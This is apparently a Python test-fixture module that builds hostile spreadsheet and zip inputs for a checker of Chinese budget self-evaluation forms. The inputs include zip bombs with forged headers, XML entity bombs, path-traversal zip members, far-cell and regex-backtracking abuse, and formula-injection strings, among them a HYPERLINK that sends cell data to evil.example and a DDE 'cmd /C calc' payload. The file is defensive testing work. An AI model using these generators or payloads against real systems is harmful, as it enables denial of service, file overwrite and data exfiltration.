"""Hostile and broken inputs, built at test time (no opaque binary blobs).

Each builder writes one file under ``folder`` and returns its path.  ``CASES``
maps a case name to (builder, expected F-code or None when the file must be
read and checked normally).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import xlsxwriter

Builder = Callable[[Path], Path]


def _form(path: Path, *, sheet: str = "自评表", hidden: bool = False, extra_sheet: bool = False,
          big_text: str | None = None, amount: object = 100.0) -> Path:
    """A small but complete national-layout self-evaluation written with xlsxwriter."""
    wb = xlsxwriter.Workbook(str(path))
    if hidden:
        wb.add_worksheet("说明").write("A1", "本工作簿的表格在隐藏工作表中")
    ws = wb.add_worksheet(sheet)
    _write_selfeval(ws, big_text=big_text, amount=amount)
    if hidden:
        ws.hide()
    if extra_sheet:
        _write_selfeval(wb.add_worksheet("自评表(2)"), big_text=None, amount=amount)
    wb.close()
    return path


def _write_selfeval(ws: xlsxwriter.workbook.Worksheet, *, big_text: str | None, amount: object) -> None:
    rows: list[list[object]] = [
        ["项目支出绩效自评表"],
        ["（2026年度）"],
        ["项目名称", big_text or "农村公路养护", None, "主管部门", "示例县交通运输局"],
        ["实施单位", "示例县交通运输局"],
        ["项目资金（万元）", None, "年初预算数", "全年预算数", "全年执行数", "分值", "执行率", "得分"],
        [None, "年度资金总额", 100.0, amount, 90.0, 10, 0.9, 9.0],
        [None, "其中：当年财政拨款", 100.0, 100.0, 90.0],
        [None, "上年结转资金", 0, 0, 0],
        [None, "其他资金", 0, 0, 0],
        ["年度总体目标", "预期目标", None, None, "实际完成情况"],
        [None, "完成全县农村公路养护", None, None, "已完成全县农村公路养护"],
        ["绩效指标", "一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分", "偏差原因分析及改进措施"],
        [None, "产出指标", "数量指标", "养护里程", "≥100公里", "100公里", 20, 20, None],
        [None, None, "质量指标", "路面完好率", "≥90%", "92%", 15, 15, None],
        [None, None, "时效指标", "完成时限", "按时完成", "达成年度指标", 15, 15, None],
        [None, "效益指标", "社会效益指标", "群众出行条件", "逐步改善", "达成年度指标", 30, 30, None],
        [None, "满意度指标", "服务对象满意度指标", "群众满意度", "≥90%", "95%", 10, 10, None],
        ["总分", None, None, None, None, None, 100, 99.0, None],
    ]
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is not None:
                ws.write(r, c, value)


def zero_byte(folder: Path) -> Path:
    p = folder / "空文件.xlsx"
    p.write_bytes(b"")
    return p


def truncated_zip(folder: Path, base: Builder | None = None) -> Path:
    full = (base or _form)(folder / "_full.xlsx")
    data = full.read_bytes()
    full.unlink()
    p = folder / "截断.xlsx"
    p.write_bytes(data[: len(data) // 2])
    return p


def _rewrite(src: Path, dst: Path, change: Callable[[str, bytes], bytes],
             extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(src) as zin:
        items = {n: zin.read(n) for n in zin.namelist()}
    src.unlink()
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in items.items():
            zout.writestr(name, change(name, data))
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def zip_bomb(folder: Path, base: Builder | None = None) -> Path:
    """A sheet whose XML inflates to ~120 MB (compresses to ~120 KB)."""
    filler = b"<!--" + b"0" * (120 * 1024 * 1024) + b"-->"

    def change(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            return data.replace(b"<sheetData>", filler + b"<sheetData>", 1)
        return data

    return _rewrite((base or _form)(folder / "_b.xlsx"), folder / "压缩炸弹.xlsx", change)


_LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%s;" % (b"" if i == 1 else str(i - 1).encode())
                                                              for _ in range(10)))
                      for i in range(1, 10))
           + b"]>")


def _inject_laughs(data: bytes) -> bytes:
    head, sep, rest = data.partition(b"?>")
    return head + sep + _LAUGHS + rest


def laughs_sheet(folder: Path, base: Builder | None = None) -> Path:
    def change(name: str, data: bytes) -> bytes:
        return _inject_laughs(data) if name == "xl/worksheets/sheet1.xml" else data

    return _rewrite((base or _form)(folder / "_l.xlsx"), folder / "实体炸弹_sheet.xlsx", change)


def laughs_shared_strings(folder: Path, base: Builder | None = None) -> Path:
    def change(name: str, data: bytes) -> bytes:
        if name == "xl/sharedStrings.xml":
            return _inject_laughs(data).replace(b"<t>", b"<t>&lol9;", 1)
        return data

    return _rewrite((base or _form)(folder / "_s.xlsx"), folder / "实体炸弹_sst.xlsx", change)


def encrypted(folder: Path, base: Builder | None = None) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = (base or _form)(folder / "_plain.xlsx")
    out = folder / "加密.xlsx"
    with plain.open("rb") as fin, out.open("wb") as fout:
        OOXMLFile(fin).encrypt("123456", fout)
    plain.unlink()
    return out


def xls_renamed(folder: Path) -> Path:
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("自评表")
    buf = io.BytesIO()
    ws.write(0, 0, "项目支出绩效自评表")
    ws.write(2, 0, "项目名称")
    ws.write(2, 1, "农村公路养护")
    book.save(buf)
    p = folder / "其实是xls.xlsx"
    p.write_bytes(buf.getvalue())
    return p


def csv_renamed(folder: Path) -> Path:
    p = folder / "其实是csv.xlsx"
    p.write_text("单位名称,项目名称,全年预算数\n示例县教育局,学生营养改善,120\n", encoding="gbk")
    return p


def far_cell(folder: Path, base: Builder | None = None) -> Path:
    """One cell at the last address of a sheet (XFD1048576)."""
    def change(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            return data.replace(b"</sheetData>",
                                b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>', 1)
        return data

    return _rewrite((base or _form)(folder / "_f.xlsx"), folder / "超大区域.xlsx", change)


def many_merges(folder: Path) -> Path:
    p = folder / "五万合并.xlsx"
    wb = xlsxwriter.Workbook(str(p))
    ws = wb.add_worksheet("自评表")
    _write_selfeval(ws, big_text=None, amount=100.0)
    for i in range(50_000):
        ws.merge_range(100 + i, 20, 100 + i, 21, None)
    wb.close()
    return p


def formula_uncached(folder: Path) -> Path:
    import openpyxl

    src = _form(folder / "_u.xlsx")
    wb = openpyxl.load_workbook(src)
    ws = wb["自评表"]
    ws["H6"] = "=F6*G6"  # openpyxl writes no cached value
    p = folder / "公式无缓存值.xlsx"
    wb.save(p)
    src.unlink()
    return p


def long_text(folder: Path) -> Path:
    return _form(folder / "超长文本.xlsx", big_text="长" * 10_000)


def bad_amounts(folder: Path) -> Path:
    return _form(folder / "金额异常.xlsx", amount="NaN")


def negative_amount(folder: Path) -> Path:
    return _form(folder / "负数金额.xlsx", amount=-100.0)


def hidden_form(folder: Path) -> Path:
    return _form(folder / "隐藏工作表.xlsx", hidden=True)


def two_forms(folder: Path) -> Path:
    return _form(folder / "两张表.xlsx", extra_sheet=True)


EVIL_MEMBERS = ("../../逃逸.xlsx", "/tmp/pbm_绝对路径.xlsx", "..\\..\\反斜杠逃逸.xlsx")


def evil_zip(folder: Path, base: Builder | None = None) -> Path:
    """A zip whose members try to escape: ../, absolute and backslash paths."""
    form = (base or _form)(folder / "_z.xlsx").read_bytes()
    (folder / "_z.xlsx").unlink()
    p = folder / "恶意路径.zip"
    with zipfile.ZipFile(p, "w") as z:
        for i, name in enumerate(EVIL_MEMBERS):  # distinct bytes: no F006 duplicates
            z.writestr(name, _variant(form, i))
    return p


def _variant(form: bytes, i: int) -> bytes:
    """The same workbook with a different zip comment (other bytes, same content)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(form)) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
        zout.comment = f"copy {i}".encode()
    return buf.getvalue()


def gbk_zip(folder: Path) -> Path:
    """A Windows-style zip: member names in GBK, no UTF-8 flag."""
    form = _form(folder / "_g.xlsx").read_bytes()
    (folder / "_g.xlsx").unlink()
    names = ["城关镇/自评表.xlsx", "青山镇/自评表.xlsx"]
    # zipfile always flags non-ASCII names as UTF-8, so write same-length ASCII
    # placeholders and patch the GBK bytes in (local headers + central directory).
    encoded = [n.encode("gbk") for n in names]
    holders = [(f"p{i}" * 40)[: len(e)].encode() for i, e in enumerate(encoded)]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for holder in holders:
            z.writestr(holder.decode(), form)
    data = buf.getvalue()
    for holder, real in zip(holders, encoded, strict=True):
        data = data.replace(holder, real)
    p = folder / "乡镇报送.zip"
    p.write_bytes(data)
    return p


# ---------------------------------------------------------------- more forms with hostile content


def _sheet_xml(name: str, data: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    return edit(data) if name == "xl/worksheets/sheet1.xml" else data


def _patched(folder: Path, out: str, edit: Callable[[bytes], bytes], base: Builder | None = None) -> Path:
    """The base workbook with its first sheet's XML edited."""
    tmp = (base or _form)(folder / f"_{out}")
    return _rewrite(tmp, folder / out, lambda name, data: _sheet_xml(name, data, edit))


def laughs_sheet_ref(folder: Path, base: Builder | None = None) -> Path:
    """The entity bomb declared in the sheet AND referenced from an inline-string cell."""
    cell = b'<row r="40"><c r="A40" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>'
    return _patched(folder, "实体炸弹_引用.xlsx",
                    lambda d: _inject_laughs(d).replace(b"</sheetData>", cell, 1), base)


def dimension_claim(folder: Path, base: Builder | None = None) -> Path:
    """A sheet whose <dimension> claims the whole grid (A1:XFD1048576)."""
    def edit(data: bytes) -> bytes:
        head, sep, rest = data.partition(b"<dimension ref=\"")
        return head + sep + b"A1:XFD1048576" + rest[rest.index(b"\""):]

    return _patched(folder, "声明百万行.xlsx", edit, base)


# A far cell written the ways XML allows; each must be bounded before calamine sees it.
FAR_CELL_VARIANTS: dict[str, bytes] = {
    "row_attr": b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
    "no_row_attr": b'<row><c r="XFD1048576"><v>1</v></c></row>',
    "lower_case": b'<row><c r="xfd1048576"><v>1</v></c></row>',
    "spaced_attr": b'<row><c  r = "XFD1048576"><v>1</v></c></row>',
    "single_quote": b"<row><c r='XFD1048576'><v>1</v></c></row>",
    "far_row_only": b'<row><c r="A1048576"><v>1</v></c></row>',
    "inline_string": b'<row><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
}


def far_cell_variant(folder: Path, variant: str, base: Builder | None = None) -> Path:
    row = FAR_CELL_VARIANTS[variant]
    return _patched(folder, f"远端单元格_{variant}.xlsx",
                    lambda d: d.replace(b"</sheetData>", row + b"</sheetData>", 1), base)


def prefixed_far_cell(folder: Path) -> Path:
    """Namespace-prefixed SpreadsheetML (<x:row>, <x:c>; .NET Open XML SDK style) with a far cell."""
    import re

    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'

    def change(name: str, data: bytes) -> bytes:
        if name not in ("xl/worksheets/sheet1.xml", "xl/workbook.xml"):
            return data
        data = re.sub(rb"<(/?)(?![?!])([A-Za-z])", rb"<\1x:\2", data.replace(ns, ns.replace(b"xmlns", b"xmlns:x")))
        if name == "xl/workbook.xml":
            return data
        far = b'<x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row></x:sheetData>'
        return data.replace(b"</x:sheetData>", far, 1)

    return _rewrite(_form(folder / "_p.xlsx"), folder / "前缀命名空间.xlsx", change)


def _number_cell(value: bytes) -> Callable[[bytes], bytes]:
    """Replace the number in D6 (全年预算数 of 年度资金总额) with a raw <v> text."""
    import re

    return lambda d: re.sub(rb'(<c r="D6"[^>]*>)<v>[^<]*</v>', rb"\1<v>" + value + b"</v>", d, count=1)


def inf_amount(folder: Path) -> Path:
    """A numeric cell holding infinity (<v>inf</v>: Excel never writes it, scripts can)."""
    return _patched(folder, "金额无穷大.xlsx", _number_cell(b"inf"))


def nan_number(folder: Path) -> Path:
    """A numeric cell holding NaN (<v>NaN</v>)."""
    return _patched(folder, "金额非数.xlsx", _number_cell(b"NaN"))


def huge_amount(folder: Path) -> Path:
    """A numeric cell holding 1e308 (finite, but any sum overflows to inf)."""
    return _patched(folder, "金额极大.xlsx", _number_cell(b"1E+308"))


def text_inf_amount(folder: Path) -> Path:
    return _form(folder / "金额文字无穷.xlsx", amount="-inf")


def date_amount(folder: Path) -> Path:
    """A date typed into the 全年预算数 cell (a date-formatted number)."""
    import datetime as dt

    p = folder / "金额是日期.xlsx"
    wb = xlsxwriter.Workbook(str(p))
    ws = wb.add_worksheet("自评表")
    _write_selfeval(ws, big_text=None, amount=100.0)
    ws.write_datetime("D6", dt.datetime(2026, 3, 1), wb.add_format({"num_format": "yyyy-mm-dd"}))
    wb.close()
    return p


def long_target(folder: Path) -> Path:
    """A 10,000-character 年度指标值 (neither operator+number+unit nor a qualitative term)."""
    p = folder / "超长指标值.xlsx"
    wb = xlsxwriter.Workbook(str(p))
    ws = wb.add_worksheet("自评表")
    _write_selfeval(ws, big_text=None, amount=100.0)
    ws.write("E13", "超" * 10_000)
    wb.close()
    return p


def injection_form(folder: Path) -> Path:
    """Submission text that a spreadsheet would run as a formula if written unguarded."""
    p = folder / "公式注入.xlsx"
    wb = xlsxwriter.Workbook(str(p))
    ws = wb.add_worksheet("自评表")
    _write_selfeval(ws, big_text=None, amount=100.0)
    ws.write_string("B3", INJECTION["project"])  # write_string: never turned into a formula here
    ws.write_string("B4", INJECTION["unit"])
    ws.write_string("E13", INJECTION["target"])
    wb.close()
    return p


INJECTION = {
    "project": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "target": "+1+1",
}


# ---------------------------------------------------------------- execution exports (pbm monitor)

EXPORT_ROWS: list[list[Any]] = [
    ["2026年10月预算执行情况（单位：万元）"],
    ["单位编码", "单位名称", "项目名称", "全年预算数", "累计支出"],
    ["101", "县财政局", "项目A", 1000.0, 900.0],
    ["102", "县教育局", "项目B", 500.0, 100.0],
    ["合计", None, None, 1500.0, 1000.0],
]


def export(path: Path, rows: list[list[Any]] | None = None) -> Path:
    """A clean monthly execution export (budget system layout) written with xlsxwriter."""
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("执行情况")
    for r, row in enumerate(rows or EXPORT_ROWS):
        for c, value in enumerate(row):
            if isinstance(value, str):
                ws.write_string(r, c, value)  # text stays text, even "=…"
            elif value is not None:
                ws.write_number(r, c, value)
    wb.close()
    return path


def export_xls_renamed(folder: Path) -> Path:
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("执行情况")
    for r, row in enumerate(EXPORT_ROWS):
        for c, value in enumerate(row):
            if value is not None:
                ws.write(r, c, value)
    p = folder / "执行_其实是xls.xlsx"
    buf = io.BytesIO()
    book.save(buf)
    p.write_bytes(buf.getvalue())
    return p


def export_csv_renamed(folder: Path) -> Path:
    p = folder / "执行_其实是csv.xlsx"
    lines = [",".join("" if v is None else str(v) for v in row) for row in EXPORT_ROWS]
    p.write_text("\n".join(lines) + "\n", encoding="gbk")
    return p


def export_bad_amounts(folder: Path) -> Path:
    rows = [list(r) for r in EXPORT_ROWS]
    rows[2][3], rows[3][4] = "NaN", "-inf"
    return export(folder / "执行_金额异常.xlsx", rows)


def zip_many_members(folder: Path, count: int) -> Path:
    """A zip of ``count`` tiny members (the member-count limit)."""
    p = folder / "文件过多.zip"
    with zipfile.ZipFile(p, "w") as z:
        for i in range(count):
            z.writestr(f"f{i:05d}.txt", b"")
    return p


def lying_zip_bomb(folder: Path, base: Builder | None = None, part: str = "xl/worksheets/sheet1.xml",
                   inflated_mb: int = 120) -> Path:
    """A part inflating to ``inflated_mb`` MB whose zip headers claim 1 MB (a lying zip bomb)."""
    import struct

    filler = b"<!--" + b"0" * (inflated_mb * 1024 * 1024) + b"-->"

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        head, sep, rest = data.partition(b"?>")
        return head + sep + filler + rest

    src = _rewrite((base or _form)(folder / "_lie.xlsx"), folder / "_lie2.xlsx", change)
    data = bytearray(src.read_bytes())
    src.unlink()
    name = part.encode()
    for sig, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        pos = data.find(sig)
        while pos >= 0:
            if data[pos + name_at:pos + name_at + len(name)] == name:
                struct.pack_into("<I", data, pos + size_at, 1024 * 1024)
            pos = data.find(sig, pos + 4)
    p = folder / f"谎报大小_{part.rsplit('/', 1)[-1]}.xlsx"
    p.write_bytes(bytes(data))
    return p


def ods_form(path: Path) -> Path:
    """A small .ods with the form's first rows (pandas + odfpy, test extras)."""
    import pandas as pd

    rows = [["项目支出绩效自评表", None], ["项目名称", "农村公路养护"], ["主管部门", "示例县交通运输局"]]
    pd.DataFrame(rows).to_excel(path, engine="odf", header=False, index=False)
    return path


def lying_ods_mimetype(folder: Path, inflated_mb: int = 160) -> Path:
    """An .ods whose `mimetype` member inflates to ``inflated_mb`` MB while its headers claim 4 KB."""
    import struct

    src = ods_form(folder / "_o.ods")
    with zipfile.ZipFile(src) as z:
        items = [(i.filename, z.read(i)) for i in z.infolist()]
    src.unlink()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in items:
            out.writestr(name, data + b" " * (inflated_mb * 1024 * 1024) if name == "mimetype" else data)
    data = bytearray(buf.getvalue())
    for sig, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        pos = data.find(sig)
        while pos >= 0:
            if data[pos + name_at:pos + name_at + 8] == b"mimetype":
                struct.pack_into("<I", data, pos + size_at, 4096)
            pos = data.find(sig, pos + 4)
    p = folder / "谎报大小_mimetype.ods"
    p.write_bytes(bytes(data))
    return p


# LibreOffice writes number-rows-repeated="1048559" for trailing rows; a hostile file repeats values
ODS_REPEATS = {
    "rows": b'<table:table-row table:number-rows-repeated="1048570"><table:table-cell office:value-type='
            b'"float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>',
    "cols": b'<table:table-row><table:table-cell table:number-columns-repeated="16380" office:value-type='
            b'"float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>',
    "both": b'<table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-'
            b'repeated="16380" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
            b"</table:table-row>",
}


def ods_repeated(folder: Path, variant: str) -> Path:
    """An .ods whose last row repeats a value a million times (rows, columns or both)."""
    src = ods_form(folder / f"_r{variant}.ods")
    extra = ODS_REPEATS[variant]

    def change(name: str, data: bytes) -> bytes:
        return data.replace(b"</table:table>", extra + b"</table:table>", 1) if name == "content.xml" else data

    return _rewrite(src, folder / f"重复百万行_{variant}.ods", change)


def xls_bad_dimensions(folder: Path) -> Path:
    """A corrupt .xls whose DIMENSIONS record says first row 983040 > last row 3 (python-calamine
    trusts it and aborts the process allocating hundreds of GB)."""
    import struct

    data = bytearray(xls_renamed(folder).read_bytes())
    (folder / "其实是xls.xlsx").unlink()
    pos = data.find(b"\x00\x02\x0e\x00")  # record 0x0200, 14 bytes: rwMic, rwMac, colMic, colMac
    struct.pack_into("<I", data, pos + 4, 0x000F0000)
    p = folder / "尺寸记录损坏.xls"
    p.write_bytes(bytes(data))
    return p


def far_cell_at(folder: Path, ref: str, base: Builder | None = None) -> Path:
    """One valued cell at ``ref`` (e.g. CV999999: far, yet inside a loose table bound)."""
    row = int("".join(ch for ch in ref if ch.isdigit()))
    cell = f'<row r="{row}"><c r="{ref}"><v>1</v></c></row>'.encode()
    return _patched(folder, f"远端单元格_{ref}.xlsx", lambda d: d.replace(b"</sheetData>", cell + b"</sheetData>", 1),
                    base)


# ---------------------------------------------------------------- parts that made the regex scan quadratic

BACKTRACK_OPENERS = 300_000  # ~25 minutes with the old quadratic scan; a few KB compressed


def comment_rows(folder: Path, openers: int = BACKTRACK_OPENERS) -> Path:
    """A comment holding many <row> openers (none closed) before </sheetData>: a well-formed
    sheet, read as usual, whose openers each made the old row regex rescan the rest of the part."""
    return _patched(folder, "注释中的行.xlsx",
                    lambda d: d.replace(b"</sheetData>", b"<!--" + b"<row>" * openers + b"--></sheetData>", 1))


def unclosed_cell_formats(folder: Path, openers: int = BACKTRACK_OPENERS) -> Path:
    """styles.xml with many <cellXfs> openers and no </cellXfs> at all."""
    def change(name: str, data: bytes) -> bytes:
        if name != "xl/styles.xml":
            return data
        return data.replace(b"<cellXfs", b"<cellXfs>" * openers + b"<cellXfs", 1).replace(b"</cellXfs>", b"")

    return _rewrite(_form(folder / "_x.xlsx"), folder / "未闭合的样式.xlsx", change)


def ods_comment_tables(folder: Path, openers: int = BACKTRACK_OPENERS) -> Path:
    """content.xml with a comment holding many <table:table openers without a name or ">"."""
    src = ods_form(folder / "_c.ods")
    filler = b"<!--" + b"<table:table " * openers + b"-->"

    def change(name: str, data: bytes) -> bytes:
        return data.replace(b"</table:table>", filler + b"</table:table>", 1) if name == "content.xml" else data

    return _rewrite(src, folder / "注释中的表.ods", change)
